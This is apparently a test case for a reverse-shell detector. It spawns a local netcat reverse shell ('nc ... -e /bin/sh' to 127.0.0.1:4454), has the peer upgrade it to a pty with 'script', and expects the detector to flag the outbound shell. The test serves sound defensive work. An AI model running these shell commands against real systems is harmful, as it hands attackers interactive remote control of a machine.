# R04b: a shell on a connection makes itself a pty with script
# stage: equipped
# expect: reverse_shell_detected
#   detection.reason: ~outbound
#   reverse_shell.process_list.length: 1
#   reverse_shell.process_list.0.process_id: $first
#   reverse_shell.process_list.0.network_connection_list.0.destination_port: 4454

#: prepare
. lib/peers.sh
peer 4454 'exec script -qc "bash -i" /dev/null'
#: act
. lib/peers.sh
act
nc 127.0.0.1 4454 -e /bin/sh < /dev/null > /dev/null 2>&1 & fact first $!
who shell 'bash -i'
await 'at $first ../exe /usr/bin/script && at $first 0 socket:* && at $shell 0 /dev/pts/*'
